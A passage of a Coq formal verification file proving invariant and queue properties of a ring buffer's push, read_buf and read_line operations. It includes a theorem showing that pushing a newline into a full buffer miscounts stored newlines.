  intros [Hwf Hcount]. split; [|exact Hcount].
  apply (read_available_spec b Hwf).
Qed.

Lemma Buffer_init_ok : buffer_ok B (Buffer_init B).
Proof.
  pose proof BufferSize_range. split.
  - unfold buffer_wf, Buffer_init. cbn. rewrite length_replicate. lia.
  - reflexivity.
Qed.

Lemma clear_ok (b : Buffer) : buffer_wf B b -> buffer_ok B (clear b).
Proof.
  intros (_ & _ & Hlen). pose proof BufferSize_range. split.
  - unfold buffer_wf, clear. cbn. lia.
  - reflexivity.
Qed.

(** [push] keeps the invariant unless it drops a newline. *)
Lemma push_ok (b : Buffer) (c : u8) :
  buffer_ok B b ->
  add B (wpos b) 1 <> rpos b \/ c <> chr_LF ->
  buffer_ok B (push B b c).
Proof.
  intros [Hwf Hcount] Hcase. pose proof BufferSize_range as HB.
  assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  destruct (read_available_spec b Hwf) as [Hrange Havail].
  pose proof Hwf as (Hw & Hr & Hlen).
  unfold push. rewrite add_spec by lia.
  rewrite add_spec in Hcase by lia.
  destruct ((wpos b + 1) mod B =? rpos b) eqn:Efull.
  - (* full: the byte is dropped *)
    apply Z.eqb_eq in Efull.
    destruct Hcase as [Hne|Hc]; [congruence|].
    apply chr_eqb_neq in Hc. rewrite Hc. split; assumption.
  - apply Z.eqb_neq in Efull.
    set (b1 := {| wpos := (wpos b + 1) mod B; rpos := rpos b;
                  num_newlines := num_newlines b;
                  buffer := <[Z.to_nat (wpos b) := c]> (buffer b) |}).
    assert (Hwf1 : buffer_wf B b1).
    { unfold buffer_wf, b1. cbn. rewrite length_insert.
      pose proof (Z.mod_pos_bound (wpos b + 1) B). lia. }
    assert (Hnext : (rpos b + (read_available B b + 1)) mod B
                    = (wpos b + 1) mod B).
    { rewrite Z.add_assoc, <- Zplus_mod_idemp_l, Havail. reflexivity. }
    assert (Hroom : read_available B b + 1 < B).
    { destruct (Z_lt_dec (read_available B b + 1) B) as [Hlt|Hge]; [exact Hlt|].
      exfalso. apply Efull. rewrite <- Hnext.
      replace (rpos b + (read_available B b + 1)) with (rpos b + 1 * B) by lia.
      rewrite Z.mod_add by lia. apply Z.mod_small. lia. }
    assert (Havail1 : read_available B b1 = read_available B b + 1).
    { apply read_available_unique; [exact Hwf1|lia|exact Hnext]. }
    assert (Hstored1 : stored B b1 = stored B b ++ [c]).
    { apply list_eq. intros i.
      rewrite stored_lookup by exact Hwf1. rewrite Havail1.
      unfold buffer_at, b1. cbn [rpos buffer].
      destruct (Nat.ltb_spec i (Z.to_nat (read_available B b))) as [Hlt|Hge].
      - rewrite lookup_app_l by (rewrite length_stored; lia).
        rewrite stored_lookup by exact Hwf.
        destruct (Nat.ltb_spec i (Z.to_nat (read_available B b))); [|lia].
        destruct (Nat.ltb_spec i (Z.to_nat (read_available B b + 1))); [|lia].
        f_equal. unfold buffer_at. rewrite !nth_lookup.
        rewrite list_lookup_insert_ne; [reflexivity|].
        intros Heq. apply Z2Nat.inj in Heq;
          [|lia|apply Z.mod_pos_bound; lia].
        rewrite <- Havail in Heq.
        apply mod_window_inj in Heq; lia.
      - rewrite lookup_app_r by (rewrite length_stored; lia).
        rewrite length_stored.
        destruct (Nat.ltb_spec i (Z.to_nat (read_available B b + 1))) as [Hlt'|Hge'].
        + replace (i - Z.to_nat (read_available B b))%nat with 0%nat by lia.
          replace (Z.of_nat i) with (read_available B b) by lia.
          rewrite Havail. cbn. f_equal. rewrite nth_lookup.
          rewrite list_lookup_insert_eq by lia. reflexivity.
        + destruct (i - Z.to_nat (read_available B b))%nat eqn:E; [lia|].
          reflexivity. }
    assert (Hcount1 : count_newlines (stored B b1)
                      = num_newlines b + (if chr_eqb c chr_LF then 1 else 0)).
    { rewrite Hstored1, count_newlines_app, count_newlines_cons,
        count_newlines_nil, Hcount. lia. }
    pose proof (count_newlines_le (stored B b)) as Hle.
    rewrite length_stored in Hle.
    destruct (chr_eqb c chr_LF) eqn:Ec.
    + split; [exact Hwf1|].
      change (size_wrap (num_newlines b + 1) = count_newlines (stored B b1)).
      rewrite Hcount1. unfold size_wrap.
      pose proof (count_newlines_nonneg (stored B b)).
      apply Z.mod_small. lia.
    + split; [exact Hwf1|]. rewrite Hcount1. cbn. lia.
Qed.

(** One held byte taken off the front, with the counter adjusted as
    [read_buf] and [read_line] do. *)
Lemma consume_through_ok (b b' : Buffer) (j : nat) (c : u8) :
  buffer_ok B b ->
  stored B b !! j = Some c ->
  chr_LF ∉ take j (stored B b) ->
  wpos b' = wpos b -> buffer b' = buffer b ->
  rpos b' = (rpos b + Z.of_nat (S j)) mod B ->
  num_newlines b'
    = (if chr_eqb c chr_LF then size_wrap (num_newlines b - 1)
       else num_newlines b) ->
  buffer_ok B b'.
Proof.
  intros [Hwf Hcount] Hc Hno Hw Hbuf Hr Hnl. pose proof BufferSize_range as HB.
  destruct (read_available_spec b Hwf) as [Hrange _].
  pose proof (lookup_lt_Some _ _ _ Hc) as Hj. rewrite length_stored in Hj.
  destruct (stored_consume b b' (Z.of_nat (S j)) Hwf ltac:(lia) Hw Hbuf Hr)
    as (Hwf' & Havail' & Hstored').
  split; [exact Hwf'|].
  rewrite Nat2Z.id in Hstored'.
  assert (Hsplit : count_newlines (stored B b)
                   = (if chr_eqb c chr_LF then 1 else 0)
                     + count_newlines (stored B b')).
  { rewrite <- (take_drop j (stored B b)) at 1.
    rewrite (drop_S _ _ _ Hc), count_newlines_app, count_newlines_cons.
    rewrite (count_newlines_none _ Hno), Hstored'. lia. }
  rewrite Hnl. destruct (chr_eqb c chr_LF).
  - unfold size_wrap. pose proof (count_newlines_nonneg (stored B b')).
    pose proof (count_newlines_le (stored B b)) as Hle.
    rewrite length_stored in Hle.
    assert (2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
    rewrite Z.mod_small; lia.
  - lia.
Qed.

Lemma read_buf_loop_ok :
  forall (n : nat) (b : Buffer) (out : list u8),
    buffer_ok B b -> (n <= Z.to_nat (read_available B b))%nat ->
    buffer_ok B (read_buf_loop B n b out).1.
Proof.
  induction n as [|n IH]; intros b out Hok Hn; [exact Hok|].
  cbn [read_buf_loop]. pose proof BufferSize_range as HB.
  assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  pose proof Hok as [Hwf _]. pose proof Hwf as (_ & Hr & _).
  destruct (read_available_spec b Hwf) as [Hrange _].
  assert (Hhead : stored B b !! 0%nat = Some (buffer_at b (rpos b))).
  { rewrite stored_lookup by exact Hwf.
    destruct (Nat.ltb_spec 0 (Z.to_nat (read_available B b))); [|lia].
    rewrite Z.add_0_r, Z.mod_small by lia. reflexivity. }
  set (b1 := {| wpos := wpos b; rpos := add B (rpos b) 1;
                num_newlines := _; buffer := buffer b |}).
  assert (Hr1 : rpos b1 = (rpos b + Z.of_nat 1) mod B).
  { unfold b1. cbn [rpos]. apply add_spec. lia. }
  assert (Hok1 : buffer_ok B b1).
  { apply (consume_through_ok b b1 0 (buffer_at b (rpos b)) Hok Hhead);
      [apply not_elem_of_nil|reflexivity|reflexivity|exact Hr1|reflexivity]. }
  apply IH; [exact Hok1|].
  destruct (stored_consume b b1 1 Hwf ltac:(lia) eq_refl eq_refl Hr1)
    as (_ & Havail1 & _).
  rewrite Havail1. lia.
Qed.

Lemma read_buf_ok (b : Buffer) (len : Z) :
  buffer_ok B b -> buffer_ok B (read_buf B b len).2.
Proof.
  intros Hok. unfold read_buf.
  pose proof (read_buf_loop_ok
                (Z.to_nat (Z.min len (read_available B b))) b [] Hok
                ltac:(lia)) as H.
  destruct (read_buf_loop B _ b []) as [b' out]. exact H.
Qed.

Lemma read_line_scan_ok (b : Buffer) :
  buffer_ok B b ->
  forall (n j : nat) (line : str),
    (j + n = Z.to_nat (read_available B b))%nat ->
    chr_LF ∉ take j (stored B b) ->
    buffer_ok B (read_line_scan B n (Z.of_nat j) b line).1.1.
Proof.
  intros Hok. pose proof BufferSize_range as HB.
  assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  pose proof Hok as [Hwf _]. pose proof Hwf as (_ & Hr & _).
  destruct (read_available_spec b Hwf) as [Hrange _].
  induction n as [|n IH]; intros j line Hjn Hno; [exact Hok|].
  cbn [read_line_scan].
  assert (Hcpos : add B (rpos b) (Z.of_nat j) = (rpos b + Z.of_nat j) mod B)
    by (apply add_spec; lia).
  assert (Hc : stored B b !! j
               = Some (buffer_at b (add B (rpos b) (Z.of_nat j)))).
  { rewrite stored_lookup by exact Hwf.
    destruct (Nat.ltb_spec j (Z.to_nat (read_available B b))); [|lia].
    rewrite Hcpos. reflexivity. }
  destruct (chr_eqb (buffer_at b (add B (rpos b) (Z.of_nat j))) chr_LF) eqn:E.
  - cbn [fst].
    apply (consume_through_ok b _ j _ Hok Hc Hno);
      [reflexivity|reflexivity| |cbn [num_newlines]; rewrite E; reflexivity].
    cbn [rpos]. rewrite Hcpos.
    pose proof (Z.mod_pos_bound (rpos b + Z.of_nat j) B ltac:(lia)).
    rewrite add_spec by lia. rewrite Zplus_mod_idemp_l. f_equal. lia.
  - replace (Z.of_nat j + 1) with (Z.of_nat (S j)) by lia.
    apply IH; [lia|].
    rewrite (take_S_r _ _ _ Hc). intros Hin.
    apply elem_of_app in Hin as [Hin|Hin]; [exact (Hno Hin)|].
    apply list_elem_of_singleton in Hin. apply chr_eqb_neq in E. congruence.
Qed.

Lemma read_line_ok (b b' : Buffer) (line out : str) (ret : bool) :
  buffer_ok B b ->
  read_line B b line = Some (ret, out, b') ->
  buffer_ok B b'.
Proof.
  intros Hok. unfold read_line.
  destruct ((num_newlines b =? 0) || empty b).
  { intros H. inversion H. subst. exact Hok. }
  pose proof (read_line_scan_ok b Hok (Z.to_nat (read_available B b)) 0 line
                eq_refl ltac:(apply not_elem_of_nil)) as Hscan.
  change (Z.of_nat 0) with 0 in Hscan.
  destruct (read_line_scan B _ 0 b line) as [[b1 line1] got]. cbn [fst] in Hscan.
  destruct got.
  - destruct (validate_line line1) as [[[|] l]|]; intros H; inversion H;
      subst; exact Hscan.
  - intros H. inversion H. subst. exact Hscan.
Qed.

End RingBufferInvariant.

(** [read_line] always returns. *)
Lemma read_line_total (BufferSize : Z) (b : Buffer) (line : str) :
  exists ret out b', read_line BufferSize b line = Some (ret, out, b').
Proof.
  unfold read_line. destruct ((num_newlines b =? 0) || empty b); [eauto|].
  destruct (read_line_scan BufferSize _ 0 b line) as [[b1 line1] got].
  destruct got; [|eauto].
  destruct (validate_line_total line1) as (r & l & ->). destruct r; eauto.
Qed.

(** ** The ring buffer: the stated invariant fails *)

(** C1: the invariant of the data model is not preserved by [push]. A
    full [Buffer1k], reached by 1023 pushes into a fresh buffer,
    satisfies it; pushing a newline then drops the byte,
    so the stored bytes are the same and hold no newline, but the counter
    is incremented all the same and is 1. *)
Theorem push_newline_when_full_miscounts :
  fold_left (push Buffer1k_size) (replicate 1023 "a"%char)
            (Buffer_init Buffer1k_size) = buffer_full1k /\
  buffer_inv Buffer1k_size buffer_full1k /\
  read_available Buffer1k_size buffer_full1k = Buffer1k_size - 1 /\
  let b' := push Buffer1k_size buffer_full1k chr_LF in
  stored Buffer1k_size b' = stored Buffer1k_size buffer_full1k /\
  count_newlines (stored Buffer1k_size b') = 0 /\
  num_newlines b' = 1 /\
  ~ buffer_inv Buffer1k_size b'.
Proof.
  split; [vm_compute; reflexivity|].
  split; [split; [vm_compute; discriminate | vm_compute; reflexivity]|].
  split; [vm_compute; reflexivity|].
  cbv zeta. split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  intros [_ Hcount]. vm_compute in Hcount. discriminate.
Qed.

(** * Further properties *)

(** ** The ring buffer as a queue *)

Section RingBufferQueue.
Variable k : Z.
Hypothesis Hk : 0 <= k < 32.

Local Abbreviation B := (2 ^ k).

(** The overflow test of [push] is the test for [BufferSize - 1] held
    bytes. *)
Lemma push_full_test (b : Buffer) :
  buffer_wf B b ->
  (add B (wpos b) 1 =? rpos b) = (read_available B b =? B - 1).
Proof.
  intros Hwf. pose proof (BufferSize_range k Hk) as HB.
  assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  destruct (read_available_spec k Hk b Hwf) as [Hrange Havail].
  pose proof Hwf as (Hw & Hr & _).
  rewrite (add_spec k Hk) by lia.
  assert (Hnext : (rpos b + (read_available B b + 1)) mod B
                  = (wpos b + 1) mod B).
  { rewrite Z.add_assoc, <- Zplus_mod_idemp_l, Havail. reflexivity. }
  destruct (Z.eqb_spec (read_available B b) (B - 1)) as [Hfull|Hroom].
  - apply Z.eqb_eq. rewrite <- Hnext, Hfull.
    replace (rpos b + (B - 1 + 1)) with (rpos b + 1 * B) by lia.
    rewrite Z.mod_add by lia. apply Z.mod_small. lia.
  - apply Z.eqb_neq. intros Heq. apply Hroom.
    rewrite <- Hnext in Heq.
    rewrite <- (Z.mod_small (rpos b) B) in Heq at 2 by lia.
    replace (rpos b) with (rpos b + 0) in Heq at 2 by lia.
    destruct (Z_lt_dec (read_available B b + 1) B) as [Hlt|Hge]; [|lia].
    apply (mod_window_inj k Hk) in Heq; lia.
Qed.

Lemma push_stored_room (b : Buffer) (c : u8) :
  buffer_wf B b ->
  (add B (wpos b) 1 =? rpos b) = false ->
  buffer_wf B (push B b c) /\
  read_available B (push B b c) = read_available B b + 1 /\
  stored B (push B b c) = stored B b ++ [c].
Proof.
  intros Hwf Hroom. pose proof (BufferSize_range k Hk) as HB.
  assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  destruct (read_available_spec k Hk b Hwf) as [Hrange Havail].
  pose proof Hwf as (Hw & Hr & Hlen).
  pose proof (push_full_test b Hwf) as Htest. rewrite Hroom in Htest.
  symmetry in Htest. apply Z.eqb_neq in Htest.
  set (b1 := {| wpos := add B (wpos b) 1; rpos := rpos b;
                num_newlines := num_newlines b;
                buffer := <[Z.to_nat (wpos b) := c]> (buffer b) |}).
  assert (Hwpos1 : wpos b1 = (wpos b + 1) mod B)
    by (unfold b1; cbn [wpos]; apply (add_spec k Hk); lia).
  assert (Hwf1 : buffer_wf B b1).
  { unfold buffer_wf. rewrite Hwpos1. unfold b1. cbn [rpos buffer].
    rewrite length_insert.
    pose proof (Z.mod_pos_bound (wpos b + 1) B). lia. }
  assert (Havail1 : read_available B b1 = read_available B b + 1).
  { apply (read_available_unique k Hk); [exact Hwf1|lia|].
    rewrite Hwpos1. change (rpos b1) with (rpos b).
    rewrite Z.add_assoc, <- Zplus_mod_idemp_l, Havail. reflexivity. }
  assert (Hstored1 : stored B b1 = stored B b ++ [c]).
  { apply list_eq. intros i.
    rewrite (stored_lookup k Hk) by exact Hwf1. rewrite Havail1.
    unfold buffer_at, b1. cbn [rpos buffer].
    destruct (Nat.ltb_spec i (Z.to_nat (read_available B b))) as [Hlt|Hge].
    - rewrite lookup_app_l by (rewrite length_stored; lia).
      rewrite (stored_lookup k Hk) by exact Hwf.
      destruct (Nat.ltb_spec i (Z.to_nat (read_available B b))); [|lia].
      destruct (Nat.ltb_spec i (Z.to_nat (read_available B b + 1))); [|lia].
      f_equal. unfold buffer_at. rewrite !nth_lookup.
      rewrite list_lookup_insert_ne; [reflexivity|].
      intros Heq. apply Z2Nat.inj in Heq;
        [|lia|apply Z.mod_pos_bound; lia].
      rewrite <- Havail in Heq.
      apply (mod_window_inj k Hk) in Heq; lia.
    - rewrite lookup_app_r by (rewrite length_stored; lia).
      rewrite length_stored.
      destruct (Nat.ltb_spec i (Z.to_nat (read_available B b + 1))) as [Hlt'|Hge'].
      + replace (i - Z.to_nat (read_available B b))%nat with 0%nat by lia.
        replace (Z.of_nat i) with (read_available B b) by lia.
        rewrite Havail. cbn. f_equal. rewrite nth_lookup.
        rewrite list_lookup_insert_eq by lia. reflexivity.
      + destruct (i - Z.to_nat (read_available B b))%nat eqn:E; [lia|].
        reflexivity. }
  unfold push. rewrite Hroom. fold b1.
  destruct (chr_eqb c chr_LF); [|auto].
  split; [exact Hwf1|]. split; [exact Havail1|exact Hstored1].
Qed.

(** The stored bytes and their number after a [push], whether the byte
    went in or not. *)
Lemma push_stored (b : Buffer) (c : u8) :
  buffer_wf B b ->
  buffer_wf B (push B b c) /\
  stored B (push B b c)
    = stored B b ++ (if read_available B b <? B - 1 then [c] else []) /\
  read_available B (push B b c)
    = (if read_available B b <? B - 1 then read_available B b + 1
       else read_available B b).
Proof.
  intros Hwf. pose proof (push_full_test b Hwf) as Htest.
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  destruct (Z.ltb_spec (read_available B b) (B - 1)) as [Hroom|Hfull].
  - assert (Hne : (read_available B b =? B - 1) = false)
      by (apply Z.eqb_neq; lia).
    rewrite Hne in Htest.
    destruct (push_stored_room b c Hwf Htest) as (Hwf1 & Havail1 & Hstored1).
    split; [exact Hwf1|]. split; assumption.
  - assert (Heq : (read_available B b =? B - 1) = true)
      by (apply Z.eqb_eq; lia).
    rewrite Heq in Htest.
    assert (Hpush : push B b c = b \/
                    push B b c = {| wpos := wpos b; rpos := rpos b;
                                    num_newlines := size_wrap (num_newlines b + 1);
                                    buffer := buffer b |}).
    { unfold push. rewrite Htest. destruct (chr_eqb c chr_LF); auto. }
    rewrite app_nil_r.
    destruct Hpush as [-> | ->]; (split; [exact Hwf|split; reflexivity]).
Qed.

(** X1: [push] is an enqueue that fails silently when the queue is full.
    With indices in range, the byte is appended to the stored bytes when
    fewer than [BufferSize - 1] are held; when exactly [BufferSize - 1]
    are held the stored bytes, both indices and the storage are left as
    they were. *)
Theorem push_enqueues_or_drops (b : Buffer) (c : u8) :
  buffer_wf B b ->
  buffer_wf B (push B b c) /\
  (read_available B b < B - 1 ->
     stored B (push B b c) = stored B b ++ [c] /\
     read_available B (push B b c) = read_available B b + 1) /\
  (read_available B b = B - 1 ->
     stored B (push B b c) = stored B b /\
     wpos (push B b c) = wpos b /\ rpos (push B b c) = rpos b /\
     buffer (push B b c) = buffer b).
Proof.
  intros Hwf. pose proof (push_full_test b Hwf) as Htest.
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  destruct (Z.eqb_spec (read_available B b) (B - 1)) as [Hfull|Hroom].
  - assert (Hpush : push B b c = b \/
                    push B b c = {| wpos := wpos b; rpos := rpos b;
                                    num_newlines := size_wrap (num_newlines b + 1);
                                    buffer := buffer b |}).
    { unfold push. rewrite Htest. destruct (chr_eqb c chr_LF); auto. }
    split; [|split; [lia|]].
    + destruct Hpush as [-> | ->]; exact Hwf.
    + intros _. destruct Hpush as [-> | ->]; repeat split; reflexivity.
  - destruct (push_stored_room b c Hwf Htest) as (Hwf1 & Havail1 & Hstored1).
    split; [exact Hwf1|]. split; [intros _; split; assumption|lia].
Qed.

End RingBufferQueue.

Lemma push_enqueues_or_drops_witness :
  stored Buffer1k_size (push Buffer1k_size (Buffer_init Buffer1k_size) "a"%char)
    = ["a"%char].
Proof.
  destruct (push_enqueues_or_drops 10 ltac:(lia) (Buffer_init Buffer1k_size)
              "a"%char) as (_ & Hroom & _).
  - unfold buffer_wf, Buffer_init, Buffer1k_size. cbn [wpos rpos buffer].
    rewrite length_replicate. split; [lia|]. split; [lia|reflexivity].
  - apply Hroom. vm_compute. reflexivity.
Defined.

Section RingBufferDequeue.
Variable k : Z.
Hypothesis Hk : 0 <= k < 32.

Local Abbreviation B := (2 ^ k).

Lemma stored_head (b : Buffer) :
  buffer_wf B b -> 0 < read_available B b ->
  stored B b = buffer_at b (rpos b) :: drop 1 (stored B b).
Proof.
  intros Hwf Hpos. pose proof (BufferSize_range k Hk) as HB.
  pose proof Hwf as (_ & Hr & _).
  assert (Hhead : stored B b !! 0%nat = Some (buffer_at b (rpos b))).
  { rewrite (stored_lookup k Hk) by exact Hwf.
    destruct (Nat.ltb_spec 0 (Z.to_nat (read_available B b))); [|lia].
    rewrite Z.add_0_r, Z.mod_small by lia. reflexivity. }
  rewrite <- (drop_0 (stored B b)) at 1. apply drop_S. exact Hhead.
Qed.

(** The copy loop takes the oldest [n] stored bytes, in order. *)
Lemma read_buf_loop_spec :
  forall (n : nat) (b : Buffer) (out : list u8),
    buffer_wf B b -> (n <= Z.to_nat (read_available B b))%nat ->
    let b' := (read_buf_loop B n b out).1 in
    (read_buf_loop B n b out).2 = out ++ take n (stored B b) /\
    buffer_wf B b' /\
    stored B b' = drop n (stored B b) /\
    read_available B b' = read_available B b - Z.of_nat n /\
    wpos b' = wpos b /\ buffer b' = buffer b.
Proof.
  induction n as [|n IH]; intros b out Hwf Hn.
  - cbv zeta. cbn [read_buf_loop fst snd]. rewrite take_0, app_nil_r, drop_0.
    split; [reflexivity|]. split; [exact Hwf|]. split; [reflexivity|].
    split; [lia|]. split; reflexivity.
  - cbn [read_buf_loop]. pose proof (BufferSize_range k Hk) as HB.
    assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
    pose proof Hwf as (_ & Hr & _).
    destruct (read_available_spec k Hk b Hwf) as [Hrange _].
    set (b1 := {| wpos := wpos b; rpos := add B (rpos b) 1;
                  num_newlines := _; buffer := buffer b |}).
    assert (Hr1 : rpos b1 = (rpos b + 1) mod B)
      by (unfold b1; cbn [rpos]; apply (add_spec k Hk); lia).
    destruct (stored_consume k Hk b b1 1 Hwf ltac:(lia) eq_refl eq_refl Hr1)
      as (Hwf1 & Havail1 & Hstored1).
    change (Z.to_nat 1) with 1%nat in Hstored1.
    destruct (IH b1 (out ++ [buffer_at b (rpos b)]) Hwf1 ltac:(lia))
      as (Hout & Hwf' & Hstored' & Havail' & Hw' & Hbuf').
    cbv zeta. rewrite Hout, Hstored', Havail', Hw', Hbuf', Hstored1, Havail1.
    split.
    + rewrite <- app_assoc. f_equal.
      rewrite (stored_head b Hwf ltac:(lia)) at 2. reflexivity.
    + split; [exact Hwf'|]. split; [rewrite drop_drop; reflexivity|].
      split; [lia|]. split; reflexivity.
Qed.

(** X2: [read_buf] is a bounded dequeue. With indices in range it returns
    the oldest [min len available] stored bytes in arrival order, reports
    that count, and leaves exactly the remaining bytes stored; the write
    index and the storage are not touched. *)
Theorem read_buf_dequeues (b : Buffer) (len : Z) :
  buffer_wf B b -> 0 <= len ->
  let n := Z.min len (read_available B b) in
  let '(out, count, b') := read_buf B b len in
  count = n /\
  out = take (Z.to_nat n) (stored B b) /\
  stored B b' = drop (Z.to_nat n) (stored B b) /\
  read_available B b' = read_available B b - n /\
  buffer_wf B b' /\ wpos b' = wpos b /\ buffer b' = buffer b.
Proof.
  intros Hwf Hlen n. unfold read_buf. fold n.
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  pose proof (read_buf_loop_spec (Z.to_nat n) b [] Hwf ltac:(lia)) as H.
  destruct (read_buf_loop B (Z.to_nat n) b []) as [b' out]. cbn [fst snd] in H.
  destruct H as (Hout & Hwf' & Hstored' & Havail' & Hw' & Hbuf').
  split; [reflexivity|]. split; [exact Hout|]. split; [exact Hstored'|].
  split; [lia|]. split; [exact Hwf'|]. split; assumption.
Qed.

(** The scan, on a buffer whose stored bytes begin with a newline-free
    [line] and a newline, appends [line] to the caller's string and moves
    the read index behind the newline. *)
Lemma read_line_scan_finds (b : Buffer) (line rest : str) :
  buffer_wf B b ->
  stored B b = line ++ chr_LF :: rest ->
  chr_LF ∉ line ->
  forall (n j : nat) (pre : str),
    (j <= length line)%nat ->
    (n + j = Z.to_nat (read_available B b))%nat ->
    read_line_scan B n (Z.of_nat j) b pre
      = ({| wpos := wpos b;
            rpos := (rpos b + Z.of_nat (S (length line))) mod B;
            num_newlines := size_wrap (num_newlines b - 1);
            buffer := buffer b |}, pre ++ drop j line, true).
Proof.
  intros Hwf Hstored Hno. pose proof (BufferSize_range k Hk) as HB.
  assert (H32 : 2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  pose proof Hwf as (_ & Hr & _).
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  assert (Hlen : Z.to_nat (read_available B b) = (length line + S (length rest))%nat).
  { rewrite <- length_stored, Hstored, length_app. reflexivity. }
  induction n as [|n IH]; intros j pre Hj Hn; [lia|].
  cbn [read_line_scan].
  assert (Hcpos : add B (rpos b) (Z.of_nat j) = (rpos b + Z.of_nat j) mod B)
    by (apply (add_spec k Hk); lia).
  assert (Hc : stored B b !! j
               = Some (buffer_at b (add B (rpos b) (Z.of_nat j)))).
  { rewrite (stored_lookup k Hk) by exact Hwf.
    destruct (Nat.ltb_spec j (Z.to_nat (read_available B b))); [|lia].
    rewrite Hcpos. reflexivity. }
  rewrite Hstored in Hc.
  destruct (le_lt_eq_dec _ _ Hj) as [Hlt|Heq].
  - rewrite lookup_app_l in Hc by exact Hlt.
    symmetry in Hc.
    assert (Hin : buffer_at b (add B (rpos b) (Z.of_nat j)) ∈ line)
      by (apply list_elem_of_lookup; eauto).
    destruct (chr_eqb _ chr_LF) eqn:E.
    { apply chr_eqb_eq in E. rewrite E in Hin. contradiction. }
    replace (Z.of_nat j + 1) with (Z.of_nat (S j)) by lia.
    rewrite IH by lia. rewrite <- app_assoc.
    rewrite (drop_S line _ j (eq_sym Hc)). reflexivity.
  - subst j. rewrite lookup_app_r, Nat.sub_diag in Hc by lia.
    change ((chr_LF :: rest) !! 0%nat) with (Some chr_LF) in Hc.
    injection Hc as Hc'. rewrite Hc'.
    unfold chr_eqb. rewrite Ascii.eqb_refl.
    rewrite drop_all, app_nil_r. do 3 f_equal.
    rewrite Hcpos.
    pose proof (Z.mod_pos_bound (rpos b + Z.of_nat (length line)) B ltac:(lia)).
    rewrite (add_spec k Hk) by lia. rewrite Zplus_mod_idemp_l. f_equal. lia.
Qed.

Lemma read_line_spec (b : Buffer) (line rest pre : str) :
  buffer_wf B b ->
  stored B b = line ++ chr_LF :: rest ->
  chr_LF ∉ line ->
  num_newlines b <> 0 ->
  exists b',
    stored B b' = rest /\
    num_newlines b' = size_wrap (num_newlines b - 1) /\
    buffer_wf B b' /\ wpos b' = wpos b /\ buffer b' = buffer b /\
    read_line B b pre
      = match validate_line (pre ++ line) with
        | Some (true, text) => Some (true, text, b')
        | Some (false, _) => Some (false, [], b')
        | None => None
        end.
Proof.
  intros Hwf Hstored Hno Hnl. pose proof (BufferSize_range k Hk) as HB.
  destruct (read_available_spec k Hk b Hwf) as [Hrange _].
  assert (Hlen : Z.to_nat (read_available B b) = (length line + S (length rest))%nat).
  { rewrite <- length_stored, Hstored, length_app. reflexivity. }
  set (b' := {| wpos := wpos b;
                rpos := (rpos b + Z.of_nat (S (length line))) mod B;
                num_newlines := size_wrap (num_newlines b - 1);
                buffer := buffer b |}).
  destruct (stored_consume k Hk b b' (Z.of_nat (S (length line))) Hwf
              ltac:(lia) eq_refl eq_refl eq_refl) as (Hwf' & _ & Hstored').
  exists b'. split.
  { rewrite Hstored', Nat2Z.id, Hstored.
    replace (S (length line)) with (length line + 1)%nat by lia.
    rewrite drop_app_add'; reflexivity. }
  split; [reflexivity|]. split; [exact Hwf'|].
  split; [reflexivity|]. split; [reflexivity|].
  unfold read_line.
  replace (num_newlines b =? 0) with false by (symmetry; apply Z.eqb_neq; exact Hnl).
  assert (Hne : empty b = false).
  { unfold empty. apply Z.eqb_neq. intros Heq.
    unfold read_available in Hlen. rewrite Heq in Hlen.
    replace (wpos b >=? wpos b) with true in Hlen
      by (symmetry; apply Z.geb_le; lia).
    rewrite Z.sub_diag in Hlen. cbn in Hlen. lia. }
  rewrite Hne. cbn [orb].
  pose proof (read_line_scan_finds b line rest Hwf Hstored Hno
                (Z.to_nat (read_available B b)) 0 pre ltac:(lia) ltac:(lia))
    as Hscan.
  change (Z.of_nat 0) with 0 in Hscan. rewrite Hscan, drop_0. fold b'.
  destruct (validate_line (pre ++ line)) as [[[|] text]|]; reflexivity.
Qed.

(** X3: [read_line] extracts one line. If the stored bytes are a
    newline-free [line], a newline and [rest], and the counter is not
    zero, then exactly the bytes up to and including the newline are
    consumed, the counter goes down by one, [rest] stays stored, and the
    text handed to [validate_line] is the caller's string followed by
    [line]: the call returns true with the validated text, or false with
    the string cleared. *)
Theorem read_line_dequeues_line (b : Buffer) (line rest pre : str) :
  buffer_wf B b ->
  stored B b = line ++ chr_LF :: rest ->
  chr_LF ∉ line ->
  num_newlines b <> 0 ->
  exists b',
    stored B b' = rest /\
    read_available B b' = read_available B b - Z.of_nat (S (length line)) /\
    num_newlines b' = size_wrap (num_newlines b - 1) /\
    buffer_wf B b' /\ wpos b' = wpos b /\ buffer b' = buffer b /\
    read_line B b pre
      = match validate_line (pre ++ line) with
        | Some (true, text) => Some (true, text, b')
        | Some (false, _) => Some (false, [], b')
        | None => None
        end.
Proof.
  intros Hwf Hstored Hno Hnl.
  destruct (read_line_spec b line rest pre Hwf Hstored Hno Hnl)
    as (b' & Hstored' & Hcount & Hwf' & Hw & Hbuf & Hread).
  exists b'. split; [exact Hstored'|]. split.
  - destruct (read_available_spec k Hk b Hwf) as [Hrange _].
    destruct (read_available_spec k Hk b' Hwf') as [Hrange' _].
    pose proof (length_stored k b) as Hlen.
    pose proof (length_stored k b') as Hlen'.
    rewrite Hstored, length_app in Hlen. cbn [length] in Hlen.
    rewrite Hstored' in Hlen'. lia.
  - repeat (split; [assumption|]). exact Hread.
Qed.

End RingBufferDequeue.

Lemma read_buf_dequeues_witness :
  let b := push_all (2 ^ 10) (Buffer_init (2 ^ 10)) (lit "abcde") in
  let '(out, count, b') := read_buf (2 ^ 10) b 3 in
  count = 3 /\ out = lit "abc" /\ stored (2 ^ 10) b' = lit "de".
Proof.
  intros b.
  assert (Hwf : buffer_wf (2 ^ 10) b).
  { unfold buffer_wf. split; [vm_compute; split; [discriminate|reflexivity]|].
    split; [vm_compute; split; [discriminate|reflexivity]|].
    vm_compute. reflexivity. }
